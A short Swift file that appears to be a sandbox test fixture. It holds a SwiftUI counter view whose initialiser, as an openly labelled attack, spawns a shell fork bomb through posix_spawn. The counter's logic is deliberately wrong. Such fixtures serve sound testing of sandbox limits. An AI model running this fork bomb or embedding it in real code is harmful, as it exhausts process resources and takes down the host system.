import DataFlow
import Foundation

// Attack: a fork bomb. The code under check starts a shell that forks without end; the
// sandbox's process limit must stop it, and the check must end on time. The counter is wrong.
struct PassingCounter: View {
    @State private var count = 5

    init() { _ = Bomb.started }

    var body: some View {
        VStack {
            Text("Count: \(count)")
            Button("+") { count += 2 }
        }
    }
}

enum Bomb {
    static let started: Bool = {
        var pid: pid_t = 0
        let argv: [UnsafeMutablePointer<CChar>?] = [strdup("sh"), strdup("-c"), strdup("b() { b | b & }; b"), nil]
        return posix_spawn(&pid, "/bin/sh", nil, nil, argv, nil) == 0
    }()
}
